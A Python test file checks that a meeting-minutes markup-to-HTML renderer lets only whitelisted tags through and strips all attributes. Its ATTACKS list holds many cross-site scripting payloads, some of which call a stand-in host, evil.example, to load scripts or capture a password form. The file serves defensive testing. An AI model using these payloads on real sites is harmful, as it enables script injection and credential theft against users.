"""Minutes as HTML: the few signs work, and nothing of what an attacker may type gets through as HTML."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from meetings.minutes.markup import html

ALLOWED = {"p", "br", "ul", "ol", "li", "h3", "h4", "h5", "strong"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "# <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. <svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "[click](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe>",
    "<p onclick=alert(1)>x</p>",
    "**<b onmouseover=alert(1)>x</b>**",
    "**bold\" onload=\"x**",
    "<style>@import '//evil.example';</style>",
    "<form action=//evil.example><input name=password>",
    "</p></div></section><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "\x00<script\x00>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
]  # fmt: skip


class Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = set(), [], ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text += data


def parsed(text: str) -> Tags:
    found = Tags()
    found.feed(html(text))
    found.close()
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_stay_text(attack):
    found = parsed(attack)
    assert found.tags <= ALLOWED
    assert found.attributes == []
    assert "alert(1)" not in attack or "alert(1)" in found.text  # still to be read, as text


@given(st.text(alphabet=st.sampled_from("<>\"'&/ =*#-1.\n\tabsvgonclickjavascript:"), max_size=200))
def test_whatever_is_typed_gives_whitelisted_tags_without_attributes(text):
    found = parsed(text)
    assert found.tags <= ALLOWED and found.attributes == []


def test_the_signs_make_headings_lists_paragraphs_and_bold_words():
    text = "# Pembukaan\nWakil Bupati membuka.\nDilanjutkan doa.\n\n- satu\n- **dua**\n1. a\n2) b\n\n### Penutup"
    assert html(text) == (
        "<h3>Pembukaan</h3>\n<p>Wakil Bupati membuka.<br>Dilanjutkan doa.</p>\n<ul><li>satu</li><li><strong>dua"
        "</strong></li></ul>\n<ol><li>a</li><li>b</li></ol>\n<h5>Penutup</h5>"
    )


def test_headings_that_follow_each_other_stay_apart():
    assert html("# a\n# b") == "<h3>a</h3>\n<h3>b</h3>"


@pytest.mark.parametrize("text", ["", "\n\n  \n", "\r\n"])
def test_nothing_written_is_nothing(text):
    assert html(text) == ""


def test_signs_within_a_line_are_text():
    assert html("harga 5 * 3 = 15, - tidak, 7.959 KK") == "<p>harga 5 * 3 = 15, - tidak, 7.959 KK</p>"
